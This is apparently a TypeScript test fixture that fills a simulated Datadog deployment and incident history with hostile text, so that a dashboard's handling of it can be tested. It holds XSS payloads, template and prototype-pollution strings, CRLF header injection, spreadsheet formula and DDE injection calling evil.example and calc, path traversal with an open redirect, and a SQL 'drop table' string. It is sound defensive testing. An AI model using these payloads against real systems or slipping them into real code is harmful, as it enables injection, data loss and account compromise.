/** A Datadog whose every text was written by an attacker: scripts, addresses that run, marks that turn text around, formulas, and sizes. */
import type {
  DatadogDeploymentEvent,
  DatadogFailureEvent,
  DatadogHistory,
  DatadogIncidentEvent,
} from "@/lib/providers/simulated-datadog/datadog-history";
import { syntheticHistory } from "@/lib/providers/simulated-datadog/synthetic-history";

/** What the texts below would set if one of them ever ran. */
export const RAN = "hostileTextRan";

/** As long as no name and no message is: once each, since all that is asked is whether a page takes it. */
const LONG_NAME = "é".repeat(100_000);
const LONG_TEXT = "W".repeat(100_000);
const runs = `globalThis.${RAN}=1;alert(1)`;

/** Short enough to be a name, so that each stands in addresses, menus and charts as well. */
export const HOSTILE_NAMES: readonly string[] = [
  `<script>${runs}</script>`,
  `"><img src=x onerror="${runs}">`,
  `</title></script><svg/onload=${runs}>`,
  `javascript:${runs}`,
  `data:text/html,<script>${runs}</script>`,
  `{{constructor.constructor('${runs}')()}}`,
  `{count, plural, one {#`,
  `\u202egnp.eciovni\u2066 \u200f\u2067turned`,
  `\u0001\u0007\u001b[31mred\u001b[0m\r\nSet-Cookie: a=b`,
  `=HYPERLINK("https://evil.example/?"&A1,"open")`,
  `+1+cmd|' /C calc'!A0`,
  `../../../sign-out?next=//evil.example#`,
  `%2e%2e%2f%00%ff%`,
  `__proto__`,
  `null`,
  `'; drop table organizations; --`,
  `half \ud83d of a pair`,
  `Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309`.repeat(20),
  `unbroken${"W".repeat(190)}`,
];

/** No name: a message, an evidence line, a title. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...HOSTILE_NAMES,
  `fix: <script>${runs}</script>\n\nCo-Authored-By: Claude <noreply@anthropic.com>"><img src=x onerror=${runs}>`,
  `fix\n\nCo-Authored-By: Claude\u202e <noreply@anthropic.com>\u0007`,
  `fix\n\nAcme-Run: <script>${runs}</script>\nGenerated-By: javascript:${runs}`,
  `fix: [click](javascript:${runs}) <a href="javascript:${runs}">here</a>\n\n\u{1f916} Generated with [Claude Code](javascript:${runs})`,
];

const pick = (texts: readonly string[], index: number) => texts[index % texts.length] as string;

function spoil(event: DatadogDeploymentEvent, index: number): DatadogDeploymentEvent {
  const name = pick(HOSTILE_NAMES, index);
  const { attributes } = event;
  return {
    ...event,
    attributes: {
      ...attributes,
      service: name,
      team: pick(HOSTILE_NAMES, index + 1),
      version: pick(HOSTILE_NAMES, index + 2),
      // Every third in an environment that counts, so that the figures have something to be drawn from.
      env: index % 3 === 0 ? "production" : index % 3 === 1 ? "staging" : pick(HOSTILE_NAMES, index),
      source: pick(HOSTILE_NAMES, index + 3),
      deployment_type: pick(HOSTILE_NAMES, index + 4),
      git: {
        commit_sha: attributes.git?.commit_sha ?? "",
        repository_id: `github.com/acme/${pick(HOSTILE_NAMES, index + 5)}`,
        repository_url: `https://user:password@github.com/acme/repository-${index % 9}`,
      },
      ...(attributes.change_failure === true && {
        remediation: { id: pick(HOSTILE_NAMES, index), type: pick(HOSTILE_NAMES, index + 1) },
      }),
      commits: (attributes.commits ?? []).map((commit, position) => ({
        ...commit,
        html_url: `javascript:${runs}`,
        author: {
          email: pick(HOSTILE_NAMES, index + position),
          canonical_email: pick(HOSTILE_NAMES, index + position),
          is_bot: index % 7 === 0,
        },
        message: pick(HOSTILE_TEXTS, index + position),
      })),
    },
  };
}

function spoilFailure(event: DatadogFailureEvent, index: number): DatadogFailureEvent {
  const { attributes } = event;
  return {
    ...event,
    attributes: {
      ...attributes,
      name: pick(HOSTILE_TEXTS, index),
      service: HOSTILE_NAMES.slice(0, 1 + (index % HOSTILE_NAMES.length)),
      team: [pick(HOSTILE_NAMES, index + 1), pick(HOSTILE_NAMES, index + 2)],
      env: ["production", pick(HOSTILE_NAMES, index + 3)],
      severity: pick(HOSTILE_NAMES, index + 4),
      source: pick(HOSTILE_NAMES, index + 5),
    },
  };
}

/** The newest incident is the one whose page is opened. */
function endless(event: DatadogFailureEvent, index: number): DatadogFailureEvent {
  if (index > 0) return event;
  return { ...event, attributes: { ...event.attributes, name: LONG_TEXT, team: [LONG_NAME] } };
}

function managed(index: number, until: Date): DatadogIncidentEvent {
  const created = new Date(until.getTime() - (index + 1) * 3_600_000).toISOString();
  const named = (value: string) => ({ type: "textbox", value: [value] });
  return {
    id: `00000000-0000-4000-8000-${String(index).padStart(12, "0")}`,
    type: "incidents",
    attributes: {
      title: pick(HOSTILE_TEXTS, index),
      public_id: index + 1,
      severity: pick(HOSTILE_NAMES, index),
      state: "resolved",
      created,
      detected: created,
      declared: created,
      resolved: until.toISOString(),
      customer_impacted: false,
      fields: {
        services: named(pick(HOSTILE_NAMES, index)),
        teams: named(pick(HOSTILE_NAMES, index + 1)),
        environment: named("production"),
      },
    },
  };
}

/** Few events with every text of the above, and three that can't be understood. */
export function hostileHistory(until: Date): DatadogHistory {
  const history = syntheticHistory({
    seed: "an attacker's",
    deployments: 150,
    commitsPerDeployment: 4,
    until,
    days: 29,
    failureRate: 0.2,
    incidents: HOSTILE_TEXTS.length,
  });
  const [first, second, third, ...others] = history.deployments.map(spoil);
  const unreadable = [first, second].map((event, index) => ({
    ...(event as DatadogDeploymentEvent),
    attributes: { ...(event as DatadogDeploymentEvent).attributes, service: [pick(HOSTILE_NAMES, index)] },
  })) as unknown as DatadogDeploymentEvent[];
  const everything: DatadogDeploymentEvent = {
    ...(third as DatadogDeploymentEvent),
    attributes: {
      ...(third as DatadogDeploymentEvent).attributes,
      env: "production",
      team: LONG_NAME,
      version: LONG_NAME,
      change_failure: true,
      remediation: { id: LONG_NAME, type: pick(HOSTILE_NAMES, 1) },
      commits: [...HOSTILE_TEXTS, LONG_TEXT].map((message, index) => ({
        sha: index.toString(16).padStart(40, "a"),
        timestamp: new Date(until.getTime() - 86_400_000).toISOString(),
        html_url: `javascript:${runs}`,
        author: {
          email: pick(HOSTILE_NAMES, index),
          canonical_email: pick(HOSTILE_NAMES, index),
          is_bot: false,
        },
        message,
      })),
    },
  };
  return {
    deployments: [...unreadable, everything, ...others],
    failures: history.failures.map(spoilFailure).map(endless),
    incidents: HOSTILE_TEXTS.slice(0, 6).map((_, index) => managed(index, until)),
  };
}
